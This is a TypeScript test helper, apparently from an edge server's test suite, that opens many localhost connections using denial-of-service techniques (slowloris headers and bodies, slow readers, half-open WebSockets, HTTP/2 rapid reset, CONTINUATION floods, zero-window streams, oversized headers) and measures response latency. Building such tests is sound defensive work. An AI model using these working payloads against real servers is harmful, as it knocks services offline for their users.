/** A process that holds many connections to an edge in a bad manner, or asks it well and measures: `node attacker.ts KIND COUNT PORT HOST`. */
import { connect } from "node:net";
import type { Socket } from "node:net";
import { flags, frame, frameTypes, headerBlock, headers } from "../h2-frames.ts";

const [kind = "", count = "0", port = "0", host = ""] = process.argv.slice(2);
const everyMs = 1_000;
/** New connections at a time: a backlog holds no more. */
const openingMax = 200;
const head = (line: string, more = ""): string => `${line} HTTP/1.1\r\nHost: ${host}\r\n${more}`;
const upgrade =
  "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

/** What HTTP/2's preface and these frames are as one text. */
const http2 = (settings: Buffer, ...frames: readonly Buffer[]): string =>
  `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${Buffer.concat([frame(frameTypes.settings, 0, 0, settings), ...frames]).toString("latin1")}`;
const streams = (count: number): readonly number[] => Array.from({ length: count }, (_, n) => 2 * n + 1);
const fieldsOf = (path: string) =>
  [
    [":method", "GET"],
    [":scheme", "http"],
    [":path", path],
    [":authority", host],
  ] as const;
const none = Buffer.alloc(0);
const wholeHead = flags.endHeaders | flags.endStream;
const cancelled = Buffer.from([0, 0, 0, 8]);
/** RFC 9113 §6.5.2: SETTINGS_INITIAL_WINDOW_SIZE is 0, so that no byte of an answer may come. */
const noWindow = Buffer.from([0, 4, 0, 0, 0, 0]);

/** What is sent first, and then a byte of which a second; whether answers are read. */
const manners: Record<string, { readonly first: string; readonly more: string; readonly reads: boolean }> = {
  idle: { first: "", more: "", reads: true },
  "slow heads": { first: head("GET /", "X-Slow: "), more: "x", reads: true },
  "slow bodies": { first: head("POST /", "Content-Length: 1000000\r\n\r\n"), more: "x", reads: true },
  "slow readers": { first: head("GET /flood", "\r\n"), more: "", reads: false },
  "half-open WebSockets": { first: head("GET /ws", upgrade), more: "", reads: true },
  "rapid resets of HTTP/2": {
    first: http2(
      none,
      ...streams(200).flatMap((n) => [headers(n, fieldsOf("/"), wholeHead), frame(frameTypes.reset, 0, n, cancelled)]),
    ),
    more: "again",
    reads: true,
  },
  "floods of CONTINUATION": {
    first: http2(
      none,
      headers(1, fieldsOf("/"), flags.endStream),
      ...streams(500).map(() => frame(frameTypes.continuation, 0, 1, headerBlock([["x-more", "y".repeat(1_000)]]))),
    ),
    more: "again",
    reads: true,
  },
  "windows of HTTP/2 that never open": {
    first: http2(noWindow, ...streams(20).map((n) => headers(n, fieldsOf("/flood"), wholeHead))),
    more: "",
    reads: true,
  },
  "heads of 16 kB": { first: head("GET /", `X: ${"y".repeat(17_000)}\r\n\r\n`), more: "again", reads: true },
};

if (kind === "probe") await probe(Number(count));
else await attack();

async function attack(): Promise<void> {
  const manner = manners[kind];
  if (manner === undefined) throw new Error(`no manner ${kind}`);
  const sockets = new Set<Socket>();
  let opened = 0;
  const open = (): Promise<void> =>
    new Promise((resolve) => {
      const socket = connect({ host: "127.0.0.1", port: Number(port) });
      socket.on("connect", () => {
        sockets.add(socket);
        opened += 1;
        socket.write(manner.first, "latin1");
        if (!manner.reads) socket.pause();
        else socket.resume();
        resolve();
      });
      socket.on("error", () => resolve());
      socket.on("close", () => sockets.delete(socket));
    });
  const fill = async (): Promise<void> => {
    for (let left = Number(count) - sockets.size; left > 0; left -= openingMax)
      await Promise.all(Array.from({ length: Math.min(openingMax, left) }, open));
  };
  await fill();
  // What the edge ends at once was held all the same, and is there again a second later.
  process.send?.({ holds: manner.more === "again" ? opened : sockets.size });
  setInterval(() => {
    if (manner.more === "again") return void fill();
    if (manner.more !== "") for (const socket of sockets) if (socket.writable) socket.write(manner.more);
  }, everyMs);
}

/** Four connections ask one after the other; the times of all answers, in milliseconds. */
async function probe(requests: number): Promise<void> {
  const times: number[] = [];
  const ask = (socket: Socket): Promise<void> =>
    new Promise((resolve, reject) => {
      const began = performance.now();
      let text = "";
      const onData = (part: Buffer): void => {
        text += part.toString("latin1");
        if (!text.endsWith("right")) return;
        socket.off("data", onData).off("close", onClose);
        times.push(performance.now() - began);
        resolve();
      };
      const onClose = (): void => reject(new Error(`closed: ${text}`));
      socket.on("data", onData).once("close", onClose);
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    });
  await Promise.all(
    Array.from({ length: 4 }, async () => {
      const socket = connect({ host: "127.0.0.1", port: Number(port) });
      for (let n = 0; n < requests / 4; n++) await ask(socket);
      socket.destroy();
    }),
  );
  process.send?.({ times });
  process.disconnect?.();
}
